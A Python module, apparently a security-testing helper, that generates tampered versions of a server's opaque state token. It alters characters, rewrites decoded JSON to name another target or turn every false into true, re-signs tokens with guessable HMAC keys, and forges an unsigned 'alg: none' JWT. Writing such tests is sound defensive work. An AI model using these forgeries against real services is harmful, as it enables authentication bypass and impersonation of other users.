"""What an attacker can do to an opaque state: alter it, read it, write it anew, sign it with another key."""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

KEYS = (b"", b"secret", b"changeme", b"key", b"mcp")
"""Keys that somebody would try first."""


def altered(state: str, third: int) -> str:
    """Change one character in the middle of a third (0 to 2): the last character of base64 may decode to the same."""
    place = min(len(state) - 1, (2 * third + 1) * len(state) // 6)
    other = "A" if state[place] != "A" else "B"
    return f"{state[:place]}{other}{state[place + 1 :]}"


def rewritten(state: str, old: str, new: str) -> list[str]:
    """Write a state that can be read so that it says something else; nothing where it cannot be read.

    Args:
        state: as the server gave it.
        old: what stands for the target in it, empty where nothing is known to.
        new: what would stand for another target.
    """
    if old and old in state:
        return [state.replace(old, new)]
    parts = state.split(".")
    return [
        ".".join([*parts[:number], other, *parts[number + 1 :]])
        for number, part in enumerate(parts)
        for other in _rewritten_part(part, old, new)
    ]


def resigned(state: str, old: str, new: str) -> list[str]:
    """Rewrite a state of the form PAYLOAD.SIGNATURE or HEADER.PAYLOAD.SIGNATURE, and sign it anew.

    Returns:
        The states, signed with keys that anybody could guess, and one that says it needs no signature (RFC 8725,
        section 2.1). Nothing where the state has no such form.
    """
    parts = state.split(".")
    if len(parts) not in (2, 3):
        return []
    *head, payload, _ = parts
    found: list[str] = []
    for other in _rewritten_part(payload, old, new):
        signed = ".".join([*head, other])
        found += [f"{signed}.{_base64(_hmac(key, signed))}" for key in KEYS]
        if head:
            found.append(f"{_base64(json.dumps({'alg': 'none', 'typ': 'JWT'}).encode())}.{other}.")
    return found


def _hmac(key: bytes, signed: str) -> bytes:
    return hmac.new(key, signed.encode(), hashlib.sha256).digest()


def _rewritten_part(part: str, old: str, new: str) -> Iterator[str]:
    plain = _json_of(part)
    if plain is not None:
        yield from (json.dumps(other) for other in _others(plain, old, new))
        return
    decoded = _decoded(part)
    if decoded is None:
        return
    within = _json_of(decoded)
    if within is not None:
        yield from (_base64(json.dumps(other).encode()) for other in _others(within, old, new))
    elif old and old in decoded:
        yield _base64(decoded.replace(old, new).encode())


def _others(value: Any, old: str, new: str) -> Iterator[Any]:
    """Give what the value could say instead: another target, and yes for every no."""
    text = json.dumps(value)
    if old and json.dumps(old)[1:-1] in text:
        yield json.loads(text.replace(json.dumps(old)[1:-1], json.dumps(new)[1:-1]))
    if (agreed := _agreed(value)) != value:
        yield agreed


def _agreed(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: _agreed(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_agreed(item) for item in value]
    return True if value is False else value


def _json_of(text: str) -> Any:
    try:
        value = json.loads(text)
    except ValueError:
        return None
    return value if isinstance(value, dict | list) else None


def _decoded(part: str) -> str | None:
    try:
        return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)).decode()
    except (binascii.Error, ValueError):
        return None


def _base64(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).decode().rstrip("=")
